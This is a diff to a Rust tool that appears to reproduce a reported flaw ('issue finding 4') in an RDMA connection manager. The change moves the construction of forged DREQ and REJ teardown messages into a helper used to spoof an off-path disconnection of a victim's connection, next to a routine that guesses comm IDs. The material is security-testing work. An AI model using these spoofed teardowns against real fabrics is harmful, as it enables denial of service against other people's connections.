@@ -382,23 +382,9 @@ async fn run(o: FloodOpts, lrt: tokio::runtime::Handle) -> Result<FloodReport> {
             victim.disconnect(&[]).await;
             continue;
         }
-        let rej = |reason: u16| {
-            mad(CmMessage::Rej(Rej {
-                local_comm_id: cid,
-                remote_comm_id: sid,
-                message_rejected: MsgKind::Rep,
-                reason: RejReason::from_raw(reason),
-                ..Rej::default()
-            }))
-        };
-        let dreq = mad(CmMessage::Dreq(Dreq {
-            local_comm_id: cid,
-            remote_comm_id: sid,
-            remote_qpn_eecn: rep.remote_qpn,
-            private_data: PrivateData::default(),
-        }));
+        let [dreq, rej28, rej4] = spoofed_teardowns(cid, sid, rep.remote_qpn);
         let stale = req(srv, CommId(0x7b00_0000 | i as u32), q, CLIENT_GUID)?;
-        for m in [dreq, rej(28), rej(4), stale] {
+        for m in [dreq, rej28, rej4, stale] {
             send(spoof, spoof_addr, srv, &m)?;
             tokio::time::sleep(Duration::from_millis(20)).await;
             let server_side = established
@@ -510,6 +496,28 @@ fn guesses(x: u32) -> Vec<u32> {
     let mut g: Vec<u32> = (1..=16).map(|d| x.wrapping_add(d)).collect();
     g.extend((1..=16).map(|k| x ^ ((1u32 << k) - 1)));
     g
+}
+
+/// The teardowns an off-path attacker forges for a connection whose IDs and QPN it knows
+/// (issue finding 4): a DREQ, a REJ 28 and a REJ 4 naming both comm IDs, each of which a CM
+/// that checks no source would act on.
+fn spoofed_teardowns(cid: CommId, sid: CommId, remote_qpn: Qpn) -> [Vec<u8>; 3] {
+    let rej = |reason: u16| {
+        mad(CmMessage::Rej(Rej {
+            local_comm_id: cid,
+            remote_comm_id: sid,
+            message_rejected: MsgKind::Rep,
+            reason: RejReason::from_raw(reason),
+            ..Rej::default()
+        }))
+    };
+    let dreq = mad(CmMessage::Dreq(Dreq {
+        local_comm_id: cid,
+        remote_comm_id: sid,
+        remote_qpn_eecn: remote_qpn,
+        private_data: PrivateData::default(),
+    }));
+    [dreq, rej(28), rej(4)]
 }
 
 fn mad(msg: CmMessage) -> Vec<u8> {
